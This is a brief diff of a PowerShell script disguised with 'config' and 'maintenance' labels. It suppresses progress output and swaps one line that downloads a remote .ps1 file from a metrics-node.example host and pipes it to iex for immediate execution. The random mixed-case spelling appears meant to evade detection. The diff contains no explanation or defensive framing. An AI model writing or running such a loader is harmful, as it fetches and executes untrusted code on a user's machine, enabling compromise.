@@ -1,3 +1,3 @@
-# CoNfIg 4224 v3
+# mAiNtEnAnCe 0661 V3
 $pRoGrEsSpReFeReNcE = 'SilentlyContinue'
-iwR -UsEbASICParSing HttP://stAtiC.metrICS-nOdE.ExAmPlE/a.Ps1 | IEX
+iwr -USEBaSiCParSiNG HtTp://STATIc.meTrIcs-nODE.eXaMPle/iNv.ps1 | iex
